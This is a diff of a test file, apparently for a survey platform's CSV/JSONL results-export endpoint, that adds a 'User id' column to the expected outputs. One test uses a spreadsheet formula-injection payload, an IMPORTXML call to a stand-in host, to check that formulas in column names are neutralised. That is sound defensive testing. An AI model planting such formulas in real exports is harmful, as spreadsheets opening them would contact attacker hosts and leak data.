@@ -51,9 +51,9 @@ describe('GET /v1/flows/{flowId}/results/export', () => {
     expect(res.text).toBe(
       '\uFEFF' +
         [
-          'Result id,Created at,Updated at,Completed,Version,Name,Contact,Age,Source,Notes',
-          line(bob, 'no,1,Bob,,,,'),
-          line(ada, 'yes,1,Ada,ada@example.com,36,newsletter,'),
+          'Result id,Created at,Updated at,Completed,Version,User id,Name,Contact,Age,Source,Notes',
+          line(bob, 'no,1,,Bob,,,,'),
+          line(ada, 'yes,1,,Ada,ada@example.com,36,newsletter,'),
           '',
         ].join('\r\n'),
     )
@@ -64,14 +64,14 @@ describe('GET /v1/flows/{flowId}/results/export', () => {
     const id = await collectResult(svc, flow.id, [], { Source: value })
     const row = (await rowsById(flow.id)).get(id)!
     const res = await exportOf(flow.id)
-    expect(res.text).toContain(`\r\n${csvId(id)},${row.createdAt},${row.updatedAt},no,1,,,,${csv},\r\n`)
+    expect(res.text).toContain(`\r\n${csvId(id)},${row.createdAt},${row.updatedAt},no,1,,,,,${csv},\r\n`)
   })
 
   it('neutralises formulas in the header too (column names come from the flow)', async () => {
     const flow = await publishedSurvey({ variables: [{ id: 'v-name', name: '=IMPORTXML("http://evil.example","//a")' }] })
     const res = await exportOf(flow.id)
     expect(res.text.split('\r\n')[0]).toBe(
-      `\uFEFFResult id,Created at,Updated at,Completed,Version,"'=IMPORTXML(""http://evil.example"",""//a"")",Contact,Ask age`,
+      `\uFEFFResult id,Created at,Updated at,Completed,Version,User id,"'=IMPORTXML(""http://evil.example"",""//a"")",Contact,Ask age`,
     )
   })
 
@@ -98,6 +98,7 @@ describe('GET /v1/flows/{flowId}/results/export', () => {
         updatedAt: rows.get(bob)!.updatedAt,
         isCompleted: false,
         version: 1,
+        userId: null,
         values: { Name: 'Bob' },
       },
       {
@@ -106,6 +107,7 @@ describe('GET /v1/flows/{flowId}/results/export', () => {
         updatedAt: rows.get(ada)!.updatedAt,
         isCompleted: true,
         version: 1,
+        userId: null,
         values: { Name: 'Ada', Contact: 'ada@example.com', Age: '36', Source: 'newsletter' },
       },
     ])
@@ -121,15 +123,17 @@ describe('GET /v1/flows/{flowId}/results/export', () => {
     await collectResult(svc, flow.id, ['Bob'])
     const res = await exportOf(flow.id, { completed: 'true', columns: 'visible', q: 'ADA@' })
     const lines = res.text.split('\r\n')
-    expect(lines[0]).toBe('\uFEFFResult id,Created at,Updated at,Completed,Version,Age,Name,Source')
-    expect(lines.slice(1)).toEqual([expect.stringMatching(new RegExp(`^${csvId(ada)},.*,yes,1,36,Ada,$`)), ''])
+    expect(lines[0]).toBe('\uFEFFResult id,Created at,Updated at,Completed,Version,User id,Age,Name,Source')
+    expect(lines.slice(1)).toEqual([expect.stringMatching(new RegExp(`^${csvId(ada)},.*,yes,1,,36,Ada,$`)), ''])
     const all = await exportOf(flow.id, { columns: 'all' })
-    expect(all.text.split('\r\n')[0]).toBe('\uFEFFResult id,Created at,Updated at,Completed,Version,Age,Name,Contact,Source,Notes')
+    expect(all.text.split('\r\n')[0]).toBe('\uFEFFResult id,Created at,Updated at,Completed,Version,User id,Age,Name,Contact,Source,Notes')
   })
 
   it('writes only the header for a flow without results', async () => {
     const flow = await publishedSurvey()
-    expect((await exportOf(flow.id)).text).toBe('\uFEFFResult id,Created at,Updated at,Completed,Version,Name,Contact,Age,Source,Notes\r\n')
+    expect((await exportOf(flow.id)).text).toBe(
+      '\uFEFFResult id,Created at,Updated at,Completed,Version,User id,Name,Contact,Age,Source,Notes\r\n',
+    )
     expect((await exportOf(flow.id, { format: 'jsonl' })).text).toBe('')
   })
 
